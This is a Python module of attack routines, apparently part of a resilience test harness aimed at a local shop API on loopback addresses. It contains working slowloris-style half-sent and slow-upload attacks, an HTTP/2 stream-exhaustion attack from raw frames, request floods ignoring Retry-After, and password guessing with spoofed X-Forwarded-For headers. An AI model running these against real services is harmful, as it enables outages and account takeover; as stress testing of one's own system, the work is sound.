"""The attacks. Each runs until it is cancelled and counts the responses that it gets."""

import asyncio
import itertools
import random
import socket
import struct

from client import Client, encode, read_response
from measure import parallel

RECONNECT_SECONDS = 0.1
# What a connection that is rejected, reset or closed raises.
CLOSED = (OSError, EOFError, ValueError, asyncio.IncompleteReadError, asyncio.LimitOverrunError)


async def half_sent(counts, port, source, sockets, path, token=None, length=900, interval=2):
    """Announces a body, sends its first byte, and the same again after `interval` seconds."""
    head = encode("POST", path, None, token, {"content-type": "application/json", "stripe-signature": "t=1,v1=00"})
    head = head.replace(b"content-length: 0", b"content-length: %d" % length) + b"{"

    async def attack(_):
        client = Client(port, source)
        while True:
            try:
                _, writer = await client.open()
                writer.write(head)
                counts["sent"] += 1
                await asyncio.sleep(interval)
                writer.transport.abort()
            except CLOSED:
                await asyncio.sleep(RECONNECT_SECONDS)

    await parallel(sockets, attack)


async def half_sent_http2(counts, port, source, streams_per_second, path, length=900):
    """The same with streams of one HTTP/2 connection."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "shop.example"}
    fields |= {"content-type": "application/json", "content-length": str(length)}
    # HPACK: literal fields that are not indexed.
    block = b"".join(b"\0" + bytes([len(n)]) + n.encode() + bytes([len(v)]) + v.encode() for n, v in fields.items())

    def frame(kind, flags, stream, payload):
        return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload

    while True:
        try:
            reader, writer = await Client(port, source).open()
            drain = asyncio.create_task(reader.read(-1))
            writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + frame(4, 1, 0, b""))
            for stream in itertools.count(1, 2):
                writer.write(frame(1, 4, stream, block) + frame(0, 0, stream, b"{"))
                await writer.drain()
                counts["sent"] += 1
                await asyncio.sleep(1 / streams_per_second)
                if drain.done():
                    break
            writer.transport.abort()
        except CLOSED:
            await asyncio.sleep(RECONNECT_SECONDS)


async def flood(counts, port, source, connections, method, path, body=None, token=None):
    """Sends a request on each connection as soon as the last one has its response, whatever `Retry-After` says."""
    request = encode(method, path, body, token)

    async def attack(_):
        client = Client(port, source)
        while True:
            try:
                reader, writer = await client.open()
                while True:
                    writer.write(request)
                    status, headers, _ = await read_response(reader)
                    counts[status] += 1
                    if headers.get("connection") == "close":
                        break
                writer.transport.abort()
            except CLOSED:
                counts[0] += 1
                await asyncio.sleep(RECONNECT_SECONDS)

    await parallel(connections, attack)


async def guess(counts, port, sources, connections, login, tries, forwarded=False):
    """Guesses the password of an account, this many times together, from these addresses in turn. `{}` in the login is the
    number of the guess."""
    guesses = iter(range(tries))

    async def attack(number):
        client = Client(port, sources[number % len(sources)])
        for turn in guesses:
            client.source = sources[turn % len(sources)]
            if len(sources) > 1:
                client.close()
            headers = {"x-forwarded-for": f"198.51.{turn // 250 % 250}.{turn % 250}"} if forwarded else {}
            body = {"login": login.format(turn), "password": f"guess number {turn}"}
            response = await client.send("POST", "/api/auth/login", body, headers)
            counts[response.status] += 1

    await parallel(connections, attack)


async def abort(counts, port, source, connections, method, path, token, body=None, seconds=0.004):
    """Sends a request and resets the connection after some milliseconds."""

    async def attack(_):
        client = Client(port, source)
        while True:
            try:
                _, writer = await client.open()
                writer.write(encode(method, path, body, token))
                counts["sent"] += 1
                await asyncio.sleep(seconds * random.uniform(0.5, 1.5))
                writer.transport.abort()
            except CLOSED:
                await asyncio.sleep(RECONNECT_SECONDS)

    await parallel(connections, attack)


async def abort_checkouts(counts, port, source, connections, token, product):
    """Adds to the cart, and resets a checkout."""
    line = {"productId": product, "quantity": 1}
    adds = flood(counts, port, source, 2, "POST", "/api/cart/add", line, token)
    await asyncio.gather(adds, abort(counts, port, source, connections, "POST", "/api/orders", token))


async def idle(counts, port, source, connections):
    """Makes a request on each connection, and keeps it open. Counts those that are still open."""
    kept = []
    for _ in range(connections):
        try:
            async with asyncio.timeout(1):
                reader, writer = await Client(port, source).open()
                writer.write(encode("GET", "/healthz"))
                kept.append((reader, writer))
                await read_response(reader)
        except (*CLOSED, TimeoutError):
            pass
    while True:
        counts["open"] = sum(not reader.at_eof() for reader, _ in kept)
        await asyncio.sleep(0.2)


async def unfinished_heads(counts, port, source, connections, size=120_000):
    """Sends a head without its end on each connection."""
    kept = []
    for _ in range(connections):
        try:
            _, writer = await Client(port, source).open()
            writer.write(b"GET /api/products HTTP/1.1\r\nhost: shop.example\r\nx: " + b"x" * size)
            kept.append(writer)
            counts["sent"] += 1
        except CLOSED:
            pass
        await asyncio.sleep(0)
    await asyncio.Event().wait()


def multipart(content):
    """Returns the content type and the body of an upload of one image."""
    body = b'--B\r\ncontent-disposition: form-data; name="image"; filename="a.png"\r\ncontent-type: image/png\r\n\r\n'
    return "multipart/form-data; boundary=B", body + content + b"\r\n--B--\r\n"


async def slow_uploads(counts, port, source, uploads, token, image):
    """Uploads avatars at one byte in five seconds."""
    kind, body = multipart(image)
    request = encode("PUT", "/api/users/me/avatar", body, token, {"content-type": kind})
    head = len(request) - len(image) // 2

    async def attack(_):
        client = Client(port, source)
        while True:
            try:
                reader, writer = await client.open()
                writer.write(request[:head])
                counts["sent"] += 1
                for byte in request[head:]:
                    if reader.at_eof():
                        break
                    await asyncio.sleep(5)
                    writer.write(bytes([byte]))
                    await writer.drain()
                await asyncio.sleep(1)
            except CLOSED:
                await asyncio.sleep(1)

    await parallel(uploads, attack)


def raise_file_limit():
    """Allows as many connections as the machine does."""
    import resource  # pylint: disable=import-outside-toplevel

    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def addresses(count, network=64):
    """This many loopback addresses."""
    return [socket.inet_ntoa(struct.pack(">I", (127 << 24) + (network << 16) + 257 + number)) for number in range(count)]
